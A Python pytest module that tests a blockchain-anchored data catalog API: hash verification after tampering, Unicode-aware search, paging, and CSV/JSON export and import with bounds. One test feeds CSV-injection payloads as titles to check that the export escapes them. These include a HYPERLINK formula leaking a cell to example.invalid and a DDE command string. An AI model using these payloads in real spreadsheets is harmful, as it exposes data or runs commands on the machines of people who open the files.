"""Catalog entries people can read: the metadata document is stored by the service, its canonical hash is the
chain's metadata hash, reads say whether the two still agree; search, export and import."""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl

import httpx
import pytest

from node.provision import RESOURCES
from tests.api.api_helpers import ApiEnv, b32, catalog_document, ok, sql

# One deployment per module: keep the module's tests on one xdist worker.
pytestmark = pytest.mark.xdist_group("api-catalog-documents")

TITLE = "户籍人口基本信息（测试） — «naïve» 𠀀"


def document(title: str = TITLE, **extra: Any) -> dict[str, Any]:
    return catalog_document(title, **extra)


def canonical_hash(doc: dict[str, Any]) -> str:
    """The documented canonical form, computed independently of the service's code."""
    raw = json.dumps(doc, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode("utf-8")
    return "0x" + hashlib.sha256(raw).hexdigest()


def register(env: ApiEnv, who: str, doc: dict[str, Any], share_type: str = "conditional") -> dict[str, Any]:
    body = {"metadata": doc, "schema_hash": b32(), "share_type": share_type, "sensitivity": 1}
    record: dict[str, Any] = ok(env.call("POST", "/resources", who, json=body), 201)["record"]
    return record


def test_chinese_document_round_trips_exactly_and_its_hash_is_on_the_chain(api_env: ApiEnv) -> None:
    doc = document()
    record = register(api_env, "psb", doc)
    assert record["metadata"] == doc
    assert record["verified"] is True
    assert record["metadata_hash"] == canonical_hash(doc)
    read = api_env.call("GET", f"/resources/{record['id']}", "hrss")
    assert read.json()["metadata"]["dct:title"] == TITLE
    assert TITLE.encode("utf-8") in read.content  # the bytes on the wire, not only the parsed value
    on_chain = api_env.setup.client.call("resource", record["id"])[3]
    assert "0x" + bytes(on_chain).hex() == canonical_hash(doc)


def test_a_tampered_stored_document_reads_unverified(api_env: ApiEnv) -> None:
    doc = document(title="待篡改的目录")
    record = register(api_env, "psb", doc)
    edited = json.dumps({**doc, "dct:title": "被改过的目录"}, ensure_ascii=False)
    sql(api_env, "UPDATE api_catalog_documents SET document = :d WHERE metadata_hash = :h",
        d=edited, h=record["metadata_hash"])  # fmt: skip
    read = ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))
    assert read["verified"] is False
    assert read["metadata"]["dct:title"] == "被改过的目录"
    listed = {r["id"]: r for r in ok(api_env.call("GET", "/resources", "auditor", params=api_env.indexed()))}
    assert listed[record["id"]]["verified"] is False


@pytest.mark.parametrize(
    "stored",
    ['{"dct:title": 1e999}', '{"dct:title": NaN}', "[" * 200_000 + "]" * 200_000],
    ids=["number-past-a-double", "nan", "nested-deeper-than-json-is-read"],
)
def test_a_stored_text_no_answer_can_carry_reads_as_no_document(api_env: ApiEnv, stored: str) -> None:
    """A row edited to hold text the standard library reads into what no JSON answer carries (infinity for a
    number past a double's range, NaN), or reads only by recursing past the C stack: every read, list and
    export of the entry answered 500, and the nesting killed the service. It reads as a text that is not a
    document: none, unverified."""
    doc = document(title="待篡改的目录 " + b32()[2:10])
    record = register(api_env, "psb", doc)
    edit = "UPDATE api_catalog_documents SET document = :d WHERE metadata_hash = :h"
    sql(api_env, edit, d=stored, h=record["metadata_hash"])
    read = ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))
    assert (read["metadata"], read["verified"]) == (None, False)
    for path in ("/resources", "/resources/export"):
        (listed,) = [r for r in _listed(api_env, path) if r["id"] == record["id"]]
        assert (listed["metadata"], listed["verified"]) == (None, False), path
    rows = _csv_rows(api_env.call("GET", "/resources/export?format=csv", "auditor"))
    (row,) = [r for r in rows if r["id"] == str(record["id"])]
    assert (row["metadata"], row["verified"]) == ("", "false")
    # Put back as stored: the module's searches find the entry by the words it was stored with.
    sql(api_env, edit, d=json.dumps(doc, sort_keys=True, separators=(",", ":"), ensure_ascii=False),
        h=record["metadata_hash"])  # fmt: skip
    assert ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))["verified"] is True


def test_a_resource_registered_by_hash_only_has_no_document(api_env: ApiEnv) -> None:
    body = {"metadata_hash": b32(), "schema_hash": b32(), "share_type": "unconditional"}
    record = ok(api_env.call("POST", "/resources", "psb", json=body), 201)["record"]
    assert (record["metadata"], record["verified"]) == (None, False)


def test_demo_resources_carry_their_documents(api_env: ApiEnv) -> None:
    for res in RESOURCES:
        rid = api_env.setup.report.resources[res.title]
        read = ok(api_env.call("GET", f"/resources/{rid}", "auditor"))
        assert read["verified"] is True
        assert read["metadata"] == res.metadata()
    household = api_env.setup.report.resources["Household registration"]
    assert (
        ok(api_env.call("GET", f"/resources/{household}", "auditor"))["metadata"]["dct:title"]
        == "户籍人口基本信息"
    )


def test_search_by_text_owner_and_share_type(api_env: ApiEnv) -> None:
    marker = "婚姻登记" + b32()[2:10]
    mine = register(api_env, "civil", document(title=f"{marker} 信息"), share_type="unconditional")
    other = register(api_env, "psb", document(title="无关资源"), share_type="conditional")

    def ids(query: str) -> set[int]:
        return {
            r["id"]
            for r in ok(
                api_env.call("GET", "/resources", "auditor", params=api_env.indexed(**dict(parse_qsl(query))))
            )
        }

    assert ids(f"q={marker}") == {mine["id"]}
    assert mine["id"] in ids("q=PERSON_ID")  # case-insensitive, over the fields too
    assert mine["id"] not in ids("q=无此文本")
    assert ids(f"q={marker}&owner={mine['owner']}") == {mine["id"]}
    assert ids(f"q={marker}&owner={other['owner']}") == set()
    unconditional = ids("share_type=unconditional")
    assert mine["id"] in unconditional and other["id"] not in unconditional
    assert ids(f"q={marker}&share_type=conditional") == set()
    bad = api_env.call("GET", "/resources?share_type=sometimes", "auditor")
    assert (bad.status_code, bad.json()["error"]["code"]) == (422, "VALIDATION_ERROR")


def test_a_search_finds_a_text_however_its_characters_are_encoded(api_env: ApiEnv) -> None:
    """An accented letter is one code point (NFC, what most keyboards send) or a letter and a combining accent
    (NFD, macOS file names); "PSB" in full-width letters (U+FF30...) reads as "PSB". A search for one form
    found a title written in the other nowhere; each finds it now, as a search for another case does."""
    marker = b32()[2:10]
    decomposed = register(api_env, "civil", document(title=f"Cafe\u0301 登记 {marker}"))
    full_width = register(api_env, "civil", document(title=f"ＰＳＢ户籍 {marker}"))
    composed = register(
        api_env, "civil", document(title=f"Re\u0301sume\u0301 {marker}".replace("e\u0301", "é"))
    )

    def found(q: str) -> set[int]:
        return {r["id"] for r in _listed(api_env, q=q)}

    assert found(f"café 登记 {marker}") == {decomposed["id"]}
    assert found(f"CAFÉ 登记 {marker}") == {decomposed["id"]}
    assert found(f"psb户籍 {marker}") == {full_width["id"]}
    assert found(f"Re\u0301sume\u0301 {marker}") == {composed["id"]}
    # Read back as written: the search text alone is normalised, never the document.
    assert ok(api_env.call("GET", f"/resources/{decomposed['id']}", "auditor"))["metadata"]["dct:title"] == (
        f"Cafe\u0301 登记 {marker}"
    )


def _listed(env: ApiEnv, path: str = "/resources", **params: Any) -> list[dict[str, Any]]:
    """Every page of a catalog list, following its ``next`` links."""
    found, response = [], env.call("GET", path, "auditor", params=env.indexed(**params))
    while True:
        found += ok(response)
        following = response.links.get("next")
        if following is None:
            return found
        response = env.call("GET", following["url"], "auditor")


def test_a_document_edited_behind_the_services_back_reads_unverified_in_every_search_and_export(
    api_env: ApiEnv,
) -> None:
    """Searches are answered from tables the service keeps beside the documents; what they answer is still
    checked against the chain's hash as the audit index holds it, whatever those tables say: an edited
    document is found by the words it was stored with and reads verified: false in every list and export,
    and a forged document pointed at by the search table is never shown."""
    marker = "审计检索" + b32()[2:10]
    doc = document(title=f"{marker} 原文")
    record = register(api_env, "samr", doc, share_type="not_shared")
    owner = record["owner"]
    searches = [{"q": marker}, {"q": marker.upper()}, {"owner": owner}, {"share_type": "not_shared"},
                {"owner": owner, "share_type": "not_shared", "q": "原文"}]  # fmt: skip

    def everywhere() -> list[dict[str, Any]]:
        """The entry as every search and export answers it."""
        seen = [r for query in searches for r in _listed(api_env, **query) if r["id"] == record["id"]]
        seen += [r for r in _listed(api_env, "/resources/export") if r["id"] == record["id"]]
        rows = _csv_rows(api_env.call("GET", "/resources/export?format=csv", "auditor"))
        (row,) = [r for r in rows if r["id"] == str(record["id"])]
        assert len(seen) == len(searches) + 1, "every search and the export find the entry"
        return [*seen, {"verified": row["verified"] == "true", "metadata": json.loads(row["metadata"])}]

    assert all(r["verified"] and r["metadata"] == doc for r in everywhere())
    edited = {**doc, "dct:title": f"{marker} 被改过"}
    sql(api_env, "UPDATE api_catalog_documents SET document = :d WHERE metadata_hash = :h",
        d=json.dumps(edited, ensure_ascii=False), h=record["metadata_hash"])  # fmt: skip
    assert all(not r["verified"] and r["metadata"] == edited for r in everywhere())

    # A forged document stored under its own hash, and the search table pointed at it: the lists still read
    # the hash the index holds, and show the edited document under it, unverified.
    forged = document(title=f"{marker} 伪造")
    forged_hash = canonical_hash(forged)
    sql(
        api_env,
        "INSERT INTO api_catalog_documents (metadata_hash, document, created_at, search_text) "
        "VALUES (:h, :d, '2026-01-01 00:00:00', :s)",
        h=forged_hash,
        d=json.dumps(forged, sort_keys=True, separators=(",", ":"), ensure_ascii=False),
        s=marker.casefold(),
    )
    sql(api_env, "UPDATE api_catalog_entries SET metadata_hash = :f WHERE resource_id = :i",
        f=forged_hash, i=record["id"])  # fmt: skip
    for r in _listed(api_env, q=marker) + _listed(api_env, owner=owner):
        if r["id"] == record["id"]:
            assert (r["metadata_hash"], r["verified"], r["metadata"]) == (
                record["metadata_hash"],
                False,
                edited,
            )


def test_an_update_states_the_sensitivity_it_leaves_the_entry_with(api_env: ApiEnv) -> None:
    """PUT replaces what the ledger holds of an entry: an update that did not say its sensitivity set it to 0,
    the least, whatever it was (a resource of class 3 read as public after a change to its document). It is
    a 422 naming the field, and the entry is left as it was."""
    record = register(api_env, "psb", document(title="敏感数据"))
    ok(api_env.call("PUT", f"/resources/{record['id']}", "psb", json={
        "metadata": record["metadata"], "schema_hash": record["schema_hash"], "share_type": "conditional",
        "sensitivity": 3}))  # fmt: skip
    body = {"metadata": document(title="敏感数据（更新）"), "schema_hash": b32(), "share_type": "conditional"}
    refused = api_env.call("PUT", f"/resources/{record['id']}", "psb", json=body)
    assert refused.status_code == 422, refused.text
    assert (refused.json()["error"]["code"], refused.json()["error"]["field"]) == (
        "VALIDATION_ERROR",
        "sensitivity",
    )
    kept = ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))
    assert (kept["sensitivity"], kept["metadata"]["dct:title"]) == (3, "敏感数据")
    updated = ok(api_env.call("PUT", f"/resources/{record['id']}", "psb", json={**body, "sensitivity": 3}))
    assert updated["record"]["sensitivity"] == 3


def test_search_follows_updates_and_pages_by_a_stable_cursor(api_env: ApiEnv) -> None:
    marker = "翻页" + b32()[2:10]
    made = [register(api_env, "health", document(title=f"{marker} {i}"), share_type="conditional")
            for i in range(3)]  # fmt: skip
    newest_first = [r["id"] for r in reversed(made)]
    first = api_env.call("GET", "/resources", "auditor", params=api_env.indexed(q=marker, limit=2))
    assert [r["id"] for r in ok(first)] == newest_first[:2]
    # A resource registered between two pages is not listed on the next one, nor anything twice.
    later = register(api_env, "health", document(title=f"{marker} later"))
    # The next link with the block of that write in place of the first page's (a parameter given twice is
    # refused).
    following = httpx.URL(first.links["next"]["url"]).copy_set_param("min_block", _head(api_env))
    rest = ok(api_env.call("GET", str(following), "auditor"))
    assert [r["id"] for r in rest] == newest_first[2:]
    assert [r["id"] for r in _listed(api_env, q=marker, limit=1)] == [later["id"], *newest_first]
    # An update on chain moves the entry to its new words and share type.
    body = {
        "metadata": document(title="换了标题" + marker[::-1]),
        "schema_hash": b32(),
        "share_type": "unconditional",
        "sensitivity": 1,
    }
    ok(api_env.call("PUT", f"/resources/{made[0]['id']}", "health", json=body))
    assert made[0]["id"] not in {r["id"] for r in _listed(api_env, q=marker)}
    assert [r["id"] for r in _listed(api_env, q=marker[::-1])] == [made[0]["id"]]
    assert made[0]["id"] in {r["id"] for r in _listed(api_env, share_type="unconditional")}
    assert made[0]["id"] not in {r["id"] for r in _listed(api_env, share_type="conditional")}


def _head(env: ApiEnv) -> int:
    return int(env.setup.client.w3.eth.block_number)


@pytest.mark.parametrize("needle", ["%", "_", "\\", "%_\\"])
def test_search_words_are_text_not_patterns(api_env: ApiEnv, needle: str) -> None:
    """The text searched for is matched as written: ``%`` and ``_`` are no wildcards of SQL's LIKE."""
    mine = register(api_env, "civil", document(title=f"完成率 50{needle}以上"))
    found = _listed(api_env, q=needle, limit=500)
    assert mine["id"] in {r["id"] for r in found}
    for r in found:
        words = json.dumps(r["metadata"], ensure_ascii=False).replace("\\\\", "\\")
        assert needle in words, r["metadata"]


def test_the_search_table_is_built_again_when_the_index_was_rewound_past_it(api_env: ApiEnv) -> None:
    """An index rewound to a fork point (a reorganisation, a node restarted from older state, a new index)
    no longer holds the last registration the search table followed in the same block: the table is built
    again from the index, and an entry only it held is gone."""
    register(api_env, "psb", document(title="重建前"))
    _listed(api_env, limit=1)
    sql(
        api_env,
        "INSERT INTO api_catalog_entries (resource_id, registered_seq, owner, share_type, "
        "metadata_hash) VALUES (999999, 999999999999999, 1, 0, '0x00')",
    )
    sql(api_env, "UPDATE api_catalog_sync SET block_hash = :h", h=b32())
    listed = {r["id"] for r in _listed(api_env, limit=500)}
    assert listed == set(_entry_ids(api_env)) and 999999 not in listed


def _entry_ids(env: ApiEnv) -> list[int]:
    """The resource ids the search table holds."""
    from sqlalchemy import create_engine, text

    engine = create_engine(env.settings.effective_database_url)
    try:
        with engine.connect() as conn:
            return [
                int(i) for i in conn.execute(text("SELECT resource_id FROM api_catalog_entries")).scalars()
            ]
    finally:
        engine.dispose()


def test_export_then_import_restores_every_document(api_env: ApiEnv) -> None:
    register(api_env, "hrss", document(title="社会保险参保信息（导出）"))
    tampered = register(api_env, "hrss", document(title="导出前被改"))
    sql(api_env, "UPDATE api_catalog_documents SET document = :d WHERE metadata_hash = :h",
        d=json.dumps(document(title="改后"), ensure_ascii=False), h=tampered["metadata_hash"])  # fmt: skip
    before = ok(api_env.call("GET", "/resources", "auditor", params=api_env.indexed(limit=500)))
    exported = ok(api_env.call("GET", "/resources/export", "auditor", params=api_env.indexed()))
    assert exported == before
    as_csv = api_env.call("GET", "/resources/export?format=csv", "auditor")
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    assert "社会保险参保信息（导出）" in as_csv.text
    with_documents = sum(1 for r in before if r["metadata"] is not None and r["verified"])
    unverified = {r["id"] for r in before if not r["verified"]}

    exported_verified = [r for r in exported if r["verified"] or r["metadata"] is None]
    for body in ({"csv": as_csv.text}, {"resources": exported_verified}):
        sql(api_env, "DELETE FROM api_catalog_documents")  # a service that lost its documents
        emptied = ok(api_env.call("GET", "/resources", "auditor", params={"limit": 500}))
        assert all(r["metadata"] is None for r in emptied)
        if "csv" in body:
            # A tampered entry's exported document no longer hashes to the chain: the CSV import refuses it.
            refused = api_env.call("POST", "/resources/import", "psb", json=body)
            assert (
                refused.status_code == 422 and refused.json()["error"]["code"] == "CATALOG_DOCUMENT_MISMATCH"
            )
            assert all(
                r["metadata"] is None
                for r in ok(api_env.call("GET", "/resources", "auditor", params={"limit": 500}))
            )
            keep = [line for line in as_csv.text.split("\r\n") if not any(
                line.startswith(f"{i},") for i in unverified)]  # fmt: skip
            body = {"csv": "\r\n".join(keep)}
        imported = ok(api_env.call("POST", "/resources/import", "psb", json=body))
        assert imported["imported"] == with_documents
        after = {r["id"]: r for r in ok(api_env.call("GET", "/resources", "auditor", params={"limit": 500}))}
        for r in before:
            if r["verified"]:
                assert after[r["id"]] == r


@pytest.mark.parametrize(
    "title", ['=HYPERLINK("http://example.invalid/?"&A1,"打开")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
              "\t=1", "\r=1", "\x00=1"],
)  # fmt: skip
def test_export_csv_textCellsCannotBeFormulas_importRestoresTheExactDocument(
    api_env: ApiEnv, title: str
) -> None:
    """A department's title or description is never a formula in the CSV an auditor opens in a spreadsheet
    (OWASP's CSV injection): a cell that would start with = + - @, a tab, a carriage return or a NUL (which
    a reader may drop ahead of the formula: ASVS 5.0, V1.2.10) is exported behind an apostrophe; the document
    column, which import reads, is the canonical JSON as it was."""
    # A title is one line of visible text (no tab or carriage return): a description may still hold them.
    one_line = title.isprintable()
    record = register(
        api_env,
        "psb",
        document(title=title if one_line else "以控制字符开头的说明", **{"dct:description": title}),
    )
    exported = api_env.call("GET", "/resources/export", "auditor", params=api_env.indexed(format="csv"))
    rows = _csv_rows(exported)
    (row,) = [r for r in rows if r["id"] == str(record["id"])]
    assert row["description"] == "'" + title
    assert row["title"] == ("'" + title if one_line else "以控制字符开头的说明")
    assert json.loads(row["metadata"]) == record["metadata"]
    sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=record["metadata_hash"])
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerow(row)
    assert (
        ok(api_env.call("POST", "/resources/import", "hrss", json={"csv": out.getvalue()}))["imported"] == 1
    )
    restored = ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))
    assert (restored["metadata"]["dct:description"], restored["verified"]) == (title, True)


def test_import_refuses_a_document_not_the_entrys(api_env: ApiEnv) -> None:
    record = register(api_env, "psb", document(title="原始标题"))
    forged = copy.deepcopy(record["metadata"])
    forged["dct:title"] = "伪造标题"
    response = api_env.call("POST", "/resources/import", "psb",
                            json={"resources": [{"id": record["id"], "metadata": forged}]})  # fmt: skip
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "CATALOG_DOCUMENT_MISMATCH"
    assert (
        ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))["metadata"]["dct:title"]
        == "原始标题"
    )


def test_an_import_refusal_names_the_entry_as_the_body_numbers_it(api_env: ApiEnv) -> None:
    """An entry without a document is skipped, but still counts in the body: a refusal of the next one named
    resources[0], the skipped entry. A CSV import names the row's line, as its other refusals do (it named
    resources[0] too, a field the body does not have), and a field's problem in pydantic's words, not in its
    report of several lines with a link."""
    record = register(api_env, "psb", document(title="按序号指明"))
    sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=record["metadata_hash"])
    rid, forged = record["id"], {**record["metadata"], "dct:title": "伪造标题"}
    cases = [
        ({"resources": [{"id": rid, "metadata": None}, {"id": rid, "metadata": forged}]},
         "CATALOG_DOCUMENT_MISMATCH", "resources.1.metadata", "resources[1]: "),
        ({"resources": [{"id": rid, "metadata": None}, {"id": rid, "metadata": {"dct:title": 7}}]},
         "VALIDATION_ERROR", "resources.1.metadata", "resources[1].metadata.dct:title: "),
        ({"csv": f"id,metadata\r\n{rid},\r\n{rid},{_csv_cell(forged)}\r\n"},
         "CATALOG_DOCUMENT_MISMATCH", "csv", "CSV line 3: "),
        ({"csv": f'id,metadata\n\n{rid},"{{""dct:title"": 7}}"\n'},
         "VALIDATION_ERROR", "csv", "CSV line 3: metadata.dct:title: "),
        ({"csv": f"id,metadata\n{rid},[]\n"},
         "VALIDATION_ERROR", "csv", "CSV line 2: metadata: Input should be a valid dictionary"),
        ({"csv": f"id,metadata\n{2**64},{{}}\n"},
         "VALIDATION_ERROR", "csv", "CSV line 2: id: Input should be less than or equal to"),
    ]  # fmt: skip
    for body, code, field, message in cases:
        response = api_env.call("POST", "/resources/import", "hrss", json=body)
        error = response.json()["error"]
        assert (response.status_code, error["code"], error["field"]) == (422, code, field), response.text
        assert error["message"].startswith(message) and "\n" not in error["message"], error["message"]
    assert ok(api_env.call("GET", f"/resources/{rid}", "auditor"))["metadata"] is None


def test_a_csv_import_saved_with_a_byte_order_mark_is_read_as_without(api_env: ApiEnv) -> None:
    """Spreadsheets save CSV as UTF-8 with a byte order mark before the header: its first column was read as
    "\ufeffid", and the import refused for want of an id column it has."""
    record = register(api_env, "psb", document(title="带字节序标记"))
    sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=record["metadata_hash"])
    text = f"\ufeffid,metadata\r\n{record['id']},{_csv_cell(record['metadata'])}\r\n"
    assert ok(api_env.call("POST", "/resources/import", "hrss", json={"csv": text})) == {"imported": 1}
    assert ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))["metadata"] == record["metadata"]


def test_the_csv_export_carries_a_byte_order_mark_and_round_trips_with_or_without_it(api_env: ApiEnv) -> None:
    """Excel reads a CSV without a byte order mark in the locale's code page (GBK on Chinese Windows): the
    export's Chinese titles showed garbled. The export starts with the UTF-8 mark; an import of the file as
    exported, or as a tool that drops the mark saves it, restores the documents, and exporting again gives
    the same rows byte for byte."""
    docs = [
        document(title="参保缴费信息（字节序）" + b32()[2:8], **{"dct:description": "门诊记录，含“引号”"}),
        document(title="户籍人口基本信息 𠀀 «naïve»"),
    ]
    ids = {str(register(api_env, "hrss", doc)["id"]) for doc in docs}

    def exported_rows() -> tuple[bytes, list[str]]:
        response = api_env.call("GET", "/resources/export", "auditor", params=api_env.indexed(format="csv"))
        assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
        header, *lines = response.content.split(b"\r\n")
        return header, [line.decode("utf-8") for line in lines if line.split(b",", 1)[0].decode() in ids]

    header, rows = exported_rows()
    assert header == b"\xef\xbb\xbf" + (
        b"id,owner,owner_code,share_type,sensitivity,metadata_hash,schema_hash,verified,title,description,metadata"
    )
    assert len(rows) == 2 and "参保缴费信息（字节序）" in rows[0] + rows[1]
    for mark in ("\ufeff", ""):
        sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash IN (:a, :b)",
            a=canonical_hash(docs[0]), b=canonical_hash(docs[1]))  # fmt: skip
        text = mark + header.decode("utf-8-sig") + "\r\n" + "\r\n".join(rows) + "\r\n"
        assert ok(api_env.call("POST", "/resources/import", "psb", json={"csv": text})) == {"imported": 2}
        assert exported_rows() == (header, rows)


def _csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    """The rows of a CSV export, read as a spreadsheet reads a file behind a UTF-8 byte order mark."""
    assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _csv_cell(doc: dict[str, Any]) -> str:
    return '"' + json.dumps(doc, ensure_ascii=False).replace('"', '""') + '"'


def _without(key: str) -> dict[str, Any]:
    doc = document()
    del doc[key]
    return doc


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"metadata": _without("dct:title"), "share_type": "conditional"}, "metadata.dct:title"),
        ({"metadata": document(title=""), "share_type": "conditional"}, "metadata.dct:title"),
        ({"metadata": document(**{"dct:description": " \n\u3000"}), "share_type": "conditional"},
         "metadata.dct:description"),
        ({"metadata": {**document(), "csvw:column": []}, "share_type": "conditional"},
         "metadata.csvw:column"),
        ({"metadata": document(**{"dcat:mediaType": "csv"}), "share_type": "conditional"},
         "metadata.dcat:mediaType"),
        ({"metadata": {**document(), "dct:title": 7}, "share_type": "conditional"}, "metadata.dct:title"),
        ({"metadata": document(extra="x"), "share_type": "conditional"}, "metadata.extra"),
        ({"metadata": _without("dct:accessRights"), "share_type": "conditional"}, None),
        ({"metadata": document(), "metadata_hash": "0x" + "11" * 32, "share_type": "conditional"}, None),
        ({"share_type": "conditional"}, None),
        ({"metadata": "户籍", "share_type": "conditional"}, "metadata"),
        # A field named twice (with two datatypes), or twice as the same name composed and decomposed.
        ({"metadata": {**document(), "csvw:column": [{"csvw:name": "编号", "csvw:datatype": "string"},
                                                     {"csvw:name": "编号", "csvw:datatype": "integer"}]},
          "share_type": "conditional"}, None),
        ({"metadata": {**document(), "csvw:column": [{"csvw:name": "\u00e9tat", "csvw:datatype": "string"},
                                                     {"csvw:name": "e\u0301tat", "csvw:datatype": "string"}]},
          "share_type": "conditional"}, None),
    ],
    ids=["no-title", "empty-title", "blank-description", "no-fields", "bad-media-type", "title-not-text",
         "unknown-key", "conditional-without-conditions", "hash-disagrees", "neither", "not-an-object",
         "field-twice", "field-twice-composed-and-decomposed"],
)  # fmt: skip
def test_bad_documents_are_refused_and_nothing_is_recorded(
    api_env: ApiEnv, body: dict[str, Any], field: str | None
) -> None:
    count = api_env.setup.client.call("resourceCount")
    response = api_env.call("POST", "/resources", "psb", json={**body, "schema_hash": b32()})
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "VALIDATION_ERROR"
    if field is not None:
        assert error["field"] == field
    assert api_env.setup.client.call("resourceCount") == count


def _import_csv(env: ApiEnv, header: list[str], rows: list[list[str]]) -> Any:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return env.call("POST", "/resources/import", "psb", json={"csv": out.getvalue()})


def test_an_import_past_its_documented_bounds_is_refused_naming_them_and_stores_nothing(
    api_env: ApiEnv,
) -> None:
    """api/README: up to 2,000 entries, or 3,000,000 characters of CSV, in a body of up to 4 MiB; more is
    `422 VALIDATION_ERROR` naming the limit (413 past the body's), nothing stored, even of a valid entry."""
    record = register(api_env, "psb", document(title="限量导入"))
    sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=record["metadata_hash"])
    restoring = {"id": record["id"], "metadata": record["metadata"]}
    entries = api_env.call("POST", "/resources/import", "psb", json={"resources": [restoring] * 2001})
    assert (entries.status_code, entries.json()["error"]["field"]) == (422, "resources"), entries.text[:300]
    assert "2000" in entries.json()["error"]["message"]
    text = "id,metadata\n" + "1," + "x" * 2_999_990 + "\n"
    assert len(text) > 3_000_000
    csv_text = api_env.call("POST", "/resources/import", "psb", json={"csv": text})
    assert (csv_text.status_code, csv_text.json()["error"]["field"]) == (422, "csv"), csv_text.text[:300]
    body = api_env.call("POST", "/resources/import", "psb", json={"csv": "x" * (4 * 1024 * 1024)})
    assert (body.status_code, body.json()["error"]["code"]) == (413, "PAYLOAD_TOO_LARGE"), body.text[:300]
    assert ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))["metadata"] is None
    assert ok(api_env.call("POST", "/resources/import", "psb", json={"resources": [restoring] * 2000})) == {
        "imported": 2000
    }
    assert ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))["metadata"] == record["metadata"]


def test_csv_import_is_bounded_in_rows_and_columns_and_stores_nothing_past_the_bound(api_env: ApiEnv) -> None:
    """A CSV import takes at most 2,000 rows, as the JSON form takes 2,000 entries; past that, 422 naming the
    limit and nothing stored, even of the rows before it. Wide headers cost nothing per row: 300,000 column
    names over 300 rows took 2.3 GB and 16 s of the service when each row became a dictionary."""
    record = register(api_env, "psb", document(title="分批导入"))
    sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=record["metadata_hash"])
    restoring = [str(record["id"]), json.dumps(record["metadata"], ensure_ascii=False)]
    over = _import_csv(api_env, ["id", "metadata"], [restoring] + [["1", ""]] * 2000)
    assert over.status_code == 422, over.text
    assert (over.json()["error"]["code"], over.json()["error"]["field"]) == ("VALIDATION_ERROR", "csv")
    assert "2,000" in over.json()["error"]["message"]
    assert ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))["metadata"] is None
    # A million one-cell rows in the text: refused as quickly, without reading them all.
    many = api_env.call("POST", "/resources/import", "psb", json={"csv": "id,metadata\n" + "1\n" * 900_000})
    assert (many.status_code, many.json()["error"]["code"]) == (422, "VALIDATION_ERROR")
    wide = [f"c{i}" for i in range(300_000)]
    assert ok(_import_csv(api_env, [*wide, "id", "metadata"], [["1"]] * 300)) == {"imported": 0}
    # At the bound, the import is taken and restores the document.
    assert ok(_import_csv(api_env, ["id", "metadata"], [restoring] + [["1", ""]] * 1999)) == {"imported": 1}
    assert ok(api_env.call("GET", f"/resources/{record['id']}", "auditor"))["metadata"] == record["metadata"]


def test_import_reads_each_entry_id_one_way_only(api_env: ApiEnv) -> None:
    """An entry's id is an integer in JSON and decimal digits in CSV, as the export writes them, and a CSV
    names each of its columns once: ``true`` was resource 1, ``"7"`` or ``7.0`` resource 7, a CSV id " 7",
    "+7", "7_0" or Arabic-Indic digits was read as 7 or 70, and of two ``id`` columns the first was read. Each
    is a 422 and nothing is stored."""
    record = register(api_env, "psb", document(title="唯一读法"))
    sql(api_env, "DELETE FROM api_catalog_documents WHERE metadata_hash = :h", h=record["metadata_hash"])
    rid, text = record["id"], json.dumps(record["metadata"], ensure_ascii=False)
    for ident in (True, str(rid), float(rid)):
        entry = {"id": ident, "metadata": record["metadata"]}
        refused = api_env.call("POST", "/resources/import", "psb", json={"resources": [entry]})
        error = refused.json()["error"]
        assert (refused.status_code, error["field"]) == (422, "resources.0.id"), refused.text
    arabic = "".join(chr(0x660 + int(d)) for d in str(rid))
    for ident in (f" {rid}", f"+{rid}", f"{rid}_0", arabic, f"0x{rid:x}"):
        refused = _import_csv(api_env, ["id", "metadata"], [[ident, text]])
        assert (refused.status_code, refused.json()["error"]["field"]) == (422, "csv"), (ident, refused.text)
        assert "decimal digits" in refused.json()["error"]["message"]
    twice = _import_csv(api_env, ["id", "metadata", "id"], [[str(rid), text, "1"]])
    assert (twice.status_code, twice.json()["error"]["field"]) == (422, "csv"), twice.text
    assert "column id more than once" in twice.json()["error"]["message"]
    assert ok(api_env.call("GET", f"/resources/{rid}", "auditor"))["metadata"] is None
    # As exported, the entry restores its document.
    assert ok(_import_csv(api_env, ["id", "metadata"], [[str(rid), text]])) == {"imported": 1}
    assert ok(api_env.call("GET", f"/resources/{rid}", "auditor"))["metadata"] == record["metadata"]


def test_export_is_streamed_page_by_page_with_the_bytes_of_the_whole_list(
    api_env: ApiEnv, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export is written a page at a time (pages of two entries here, so a small catalog spans several),
    and its bytes are those of the list answered at once: the JSON that ``GET /resources`` answers for every
    entry in one page, and the CSV the documented columns make of it, behind a UTF-8 byte order mark
    (computed here independently)."""
    from api.ledger.catalog import CatalogService

    register(api_env, "hrss", document(title="=分页导出 一"))
